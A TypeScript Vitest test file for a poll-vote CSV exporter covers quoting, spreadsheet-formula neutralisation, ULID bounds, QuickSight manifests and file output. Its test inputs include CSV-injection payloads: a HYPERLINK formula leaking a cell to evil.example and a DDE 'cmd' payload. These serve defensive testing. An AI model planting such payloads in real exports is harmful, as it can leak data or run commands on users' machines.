import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { gunzipSync } from 'node:zlib';
import { decodeTime } from 'ulid';
import { describe, expect, it } from 'vitest';
import { CSV_HEADER, csvField, csvRow, spreadsheetSafe } from '../../functions/exporter/csv.ts';
import { FolderSink } from '../../functions/exporter/folder-sink.ts';
import { partKey } from '../../functions/exporter/layout.ts';
import { MANIFEST_MAX_URIS, quickSightManifest } from '../../functions/exporter/manifest.ts';
import { PartWriter } from '../../functions/exporter/part-writer.ts';
import type { ObjectSink } from '../../functions/exporter/sink.ts';
import { lowerBound, upperBound } from '../../functions/exporter/ulid-range.ts';
import { parseCsv } from './support.ts';

describe('CSV fields', () => {
  it('leaves plain values as they are', () => {
    expect(csvField('Red')).toBe('Red');
    expect(csvField('')).toBe('');
  });

  it('quotes values with commas or quotes and doubles inner quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });

  it('quotes a neutralised formula that holds a comma or a quote', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    );
  });

  it('writes rows that parse back to the same fields', () => {
    const row = {
      voteId: '01J0000000AAAAAAAAAAAAAAAA',
      pollId: 'p1',
      optionId: 'opt1',
      optionLabel: 'A, "B" C',
      castAt: '2025-01-01T00:00:00.000Z',
      ageGroup: '',
      region: 'EU',
      gender: '',
      kind: 'RANKED',
      optionIds: 'opt1 opt3',
      replacedVoteIds: '01J0000000AAAAAAAAAAAAAAA9',
      history:
        '[{"voteId":"01J0000000AAAAAAAAAAAAAAA9","optionIds":["opt2"],"castAt":"2024-12-31T23:59:00.000Z"}]',
    };
    expect(parseCsv(CSV_HEADER + csvRow(row))).toEqual([
      [
        'vote_id',
        'poll_id',
        'option_id',
        'option_label',
        'cast_at',
        'age_group',
        'region',
        'gender',
        'kind',
        'option_ids',
        'replaced_vote_ids',
        'history',
      ],
      [
        row.voteId,
        'p1',
        'opt1',
        'A, "B" C',
        row.castAt,
        '',
        'EU',
        '',
        'RANKED',
        'opt1 opt3',
        row.replacedVoteIds,
        row.history,
      ],
    ]);
  });
});

// The rule of docs/exports.md, "Spreadsheet safety": OWASP's list of characters that start a formula
// (https://owasp.org/www-community/attacks/CSV_Injection) and ASVS 1.2.10 (NUL), stricter where it is cheap.
describe('spreadsheet safety', () => {
  it.each([
    ['an equals sign', '=1+1', "'=1+1"],
    ['a HYPERLINK formula', '=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'],
    ['a DDE payload', "=cmd|'/c calc'!A0", "'=cmd|'/c calc'!A0"],
    ['a plus sign', '+1+1', "'+1+1"],
    ['a minus sign', '-2+3', "'-2+3"],
    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a formula behind spaces', '  =1+1', "'  =1+1"],
    ['a formula behind a no-break space', '\u00a0=1+1', "'\u00a0=1+1"],
    ['a full-width equals sign', '\uff1d1+1', "'\uff1d1+1"],
    ['a full-width at sign', '\uff20SUM(A1)', "'\uff20SUM(A1)"],
    ['a leading tab', '\t=1+1', '\ufffd=1+1'],
    ['a leading carriage return', '\r=1+1', '\ufffd=1+1'],
    ['a line feed inside', 'two\nlines', 'two\ufffdlines'],
    ['a NUL byte', 'a\u0000b', 'a\ufffdb'],
    ['DEL and a C1 control', 'a\u007fb\u0085c', 'a\ufffdb\ufffdc'],
    ['a line separator', 'a\u2028b', 'a\ufffdb'],
    ['a lone surrogate', 'a\ud800b', 'a\ufffdb'],
    ['a negative number', '-1', '-1'],
    ['a negative decimal', '-2.5', '-2.5'],
    ['a signed positive number', '+3', '+3'],
    ['a negative number with a formula after it', '-1+cmd', "'-1+cmd"],
    ['a minus in the middle', 'Red - dark', 'Red - dark'],
    ['an equals sign in the middle', 'a=b', 'a=b'],
    ['an emoji with a zero-width joiner', '👩\u200d💻', '👩\u200d💻'],
    ['an empty value', '', ''],
  ])('handles %s', (_case, value, safe) => {
    expect(spreadsheetSafe(value)).toBe(safe);
  });
});

describe('voteId bounds', () => {
  it('ends at the last ULID of the cutoff millisecond', () => {
    const cutoff = Date.parse('2025-06-01T12:00:00.000Z');
    expect(upperBound(cutoff)).toHaveLength(26);
    expect(decodeTime(upperBound(cutoff))).toBe(cutoff);
    expect(upperBound(cutoff).endsWith('ZZZZZZZZZZZZZZZZ')).toBe(true);
  });

  it('starts just after the watermark, or at the smallest ULID', () => {
    expect(lowerBound('01ARZ3NDEKTSV4RRFFQ69G5FAV')).toBe('01ARZ3NDEKTSV4RRFFQ69G5FAW');
    expect(lowerBound('01ARZ3NDEKTSV4RRFFQ69G5FAZ')).toBe('01ARZ3NDEKTSV4RRFFQ69G5FB0');
    expect(lowerBound(null)).toBe('00000000000000000000000000');
  });
});

describe('the QuickSight manifest', () => {
  const settings = { format: 'CSV', delimiter: ',', textqualifier: '"', containsHeader: 'true' };

  it('names each part by URI', () => {
    expect(quickSightManifest(['s3://b/k1', 's3://b/k2'], 's3://b/')).toEqual({
      fileLocations: [{ URIs: ['s3://b/k1', 's3://b/k2'] }],
      globalUploadSettings: settings,
    });
  });

  it('names the folder as a prefix past QuickSight’s 1,000 files', () => {
    const uris = Array.from({ length: MANIFEST_MAX_URIS + 1 }, (_, index) => `s3://b/k${index}`);
    expect(quickSightManifest(uris, 's3://b/votes/poll=p/')).toEqual({
      fileLocations: [{ URIPrefixes: ['s3://b/votes/poll=p/'] }],
      globalUploadSettings: settings,
    });
  });
});

describe('part names', () => {
  it('follow the poll, the date and the run', () => {
    expect(partKey('p1', '2025-06-01', 42, 3)).toBe('votes/poll=p1/date=2025-06-01/p1-000042-003.csv.gz');
  });
});

describe('the folder sink', () => {
  it('writes gzip parts, small objects and lists keys under a prefix', async () => {
    const root = await mkdtemp(join(tmpdir(), 'folder-sink-'));
    try {
      const sink: ObjectSink = new FolderSink(root);
      const part = new PartWriter(sink, 'votes/poll=p/date=2025-01-01/p-000001-000.csv.gz');
      await part.write('a,b\r\n');
      await part.finish();
      await sink.put('manifests/poll=p.json', '{}', 'application/json');
      await sink.upload('votes/poll=q/x.csv.gz', Readable.from([Buffer.from('x')]), 'application/gzip');

      expect(await sink.list('votes/poll=p/')).toEqual(['votes/poll=p/date=2025-01-01/p-000001-000.csv.gz']);
      const bytes = await readFile(join(root, 'votes/poll=p/date=2025-01-01/p-000001-000.csv.gz'));
      expect(gunzipSync(bytes).toString()).toBe(`${CSV_HEADER}a,b\r\n`);
      expect(sink.uri('manifests/poll=p.json')).toMatch(/^file:\/\/.*\/manifests\/poll=p\.json$/);
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  });
});
